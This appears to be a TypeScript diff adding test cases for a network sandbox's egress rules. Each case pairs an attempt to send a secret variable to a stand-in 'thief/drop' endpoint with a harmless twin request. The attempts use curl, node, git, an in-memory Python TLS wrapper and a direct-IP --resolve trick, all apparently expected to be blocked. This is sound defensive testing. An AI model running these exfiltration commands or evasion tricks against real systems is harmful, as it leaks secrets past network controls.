@@ -1,0 +1,70 @@
+import type { Row } from '../case.ts'
+import { curl, python } from './script.ts'
+
+const by = 'names: a host with HTTPS rules only is allowed nothing in this version'
+const twin = curl('"https://good.example.com/$T"')
+const request = 'POST /thief/drop HTTP/1.1'
+
+export const ownTls: Row = {
+  row: 26,
+  title: 'A TLS library of one’s own, towards a host with HTTPS rules',
+  cases: [
+    {
+      id: 'rules-openssl',
+      technique: 'libssl (curl)',
+      attempt: curl('-X POST --data "$T" https://rules.example.com/thief/drop'),
+      twin,
+      targets: ['198.51.100.32'],
+      by,
+    },
+    {
+      id: 'rules-node',
+      technique: 'OpenSSL inside of a program (node)',
+      attempt: `timeout 10 node -e 'const r = require("https").request("https://rules.example.com/thief/drop", { method: "POST" }, () => {}); r.on("error", (e) => { console.log(e.code); process.exit(9) }); r.end(process.env.T)'`,
+      twin: `timeout 10 node -e 'require("https").get("https://good.example.com/" + process.env.T, (r) => r.resume())'`,
+      targets: ['198.51.100.32'],
+      by,
+    },
+    {
+      id: 'rules-gnutls',
+      technique: 'GnuTLS (git)',
+      attempt: 'GIT_TERMINAL_PROMPT=0 git ls-remote "https://rules.example.com/thief/$T.git"',
+      twin: 'GIT_TERMINAL_PROMPT=0 git ls-remote "https://good.example.com/acme/$T.git"',
+      targets: ['198.51.100.32'],
+      by,
+    },
+    {
+      id: 'rules-python',
+      technique: 'OpenSSL in memory, apart from the socket (python, MemoryBIO)',
+      attempt: python(`
+host = 'rules.example.com' if T[2] == 'a' else 'good.example.com'
+context = ssl.create_default_context()
+incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+tls = context.wrap_bio(incoming, outgoing, server_hostname=host)
+s = made()
+s.connect((host, 443))
+def move(act):
+    while True:
+        try: done = act()
+        except ssl.SSLWantReadError: done = None
+        if data := outgoing.read(): s.sendall(data)
+        if done is not None: return done
+        incoming.write(s.recv(16384))
+move(lambda: tls.do_handshake() or True)
+move(lambda: tls.write(b'${request}\\r\\nHost: ' + host.encode() + b'\\r\\nContent-Length: 8\\r\\n\\r\\n' + DATA))
+move(lambda: tls.read(100))`),
+      targets: ['198.51.100.32'],
+      by,
+    },
+    {
+      id: 'rules-address',
+      technique: 'the host’s address without its name',
+      attempt: curl(
+        '-k -X POST --data "$T" --resolve rules.example.com:443:198.51.100.32 https://rules.example.com/thief/drop',
+      ),
+      twin,
+      targets: ['198.51.100.32'],
+      by: 'connect: `EPERM`',
+    },
+  ],
+}
